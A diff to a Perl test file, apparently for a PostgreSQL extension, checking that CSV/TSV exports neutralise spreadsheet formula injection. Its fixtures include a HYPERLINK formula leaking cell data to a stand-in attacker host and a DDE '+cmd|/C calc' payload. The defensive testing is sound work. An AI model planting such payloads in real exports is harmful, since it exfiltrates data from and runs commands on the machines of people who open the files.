@@ -357,6 +357,7 @@ is((csv_fields($quoted))[2], 'a,"b"', 'and reads back as it was');
 add_batch(1031, iops => [1000], target => '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
 	mode => '+cmd|/C calc!A0', physical => -5);
 add_batch(1032, iops => [1000], target => '@SUM(A1:A9)', mode => '-x');
+add_batch(1033, iops => [1000], target => "\t1", mode => '-7');
 @paths = split /\n/, $node->safe_psql('postgres', "SELECT * FROM ranread_export('$dir', csv => true)");
 my @csv_records = split /\r\n/, slurp_file($paths[1]);
 my @csv_header = csv_fields($csv_records[0]);
@@ -366,6 +367,8 @@ is(join(' | ', map { $by_batch{1031}[ $at{$_} ] } qw(target mode physical_pct)),
 	q{'=HYPERLINK("http://attacker.invalid/?"&A1,"click") | '+cmd|/C calc!A0 | -5.0},
 	'CSV: a target and a mode a spreadsheet would run as formulas are exported as text, a negative number as it is');
 is(join(' | ', map { $by_batch{1032}[ $at{$_} ] } qw(target mode)), q{'@SUM(A1:A9) | '-x}, 'likewise @ and -');
+is(join(' | ', map { $by_batch{1033}[ $at{$_} ] } qw(target mode)), "'\t1 | -7",
+	'a tab before a number is text (a spreadsheet would trim it), a signed number is a number');
 my ($tsv_line) = grep { /^\S+\t\S+\t'\@SUM/ } split /\n/, slurp_file($paths[0]);
 ok(defined $tsv_line, 'and in the TSV');
 
@@ -385,7 +388,7 @@ foreach my $kind ('tsv', 'csv')
 }
 
 # the forged batches go: the exports below count what the rest recorded
-$node->safe_psql('postgres', 'DELETE FROM ranread_results WHERE batch IN (1031, 1032); DELETE FROM ranread_batches WHERE batch IN (1031, 1032)');
+$node->safe_psql('postgres', 'DELETE FROM ranread_results WHERE batch IN (1031, 1032, 1033); DELETE FROM ranread_batches WHERE batch IN (1031, 1032, 1033)');
 
 # --- export: never overwrite -------------------------------------------------------
 # within one minute: wait if it is about to turn
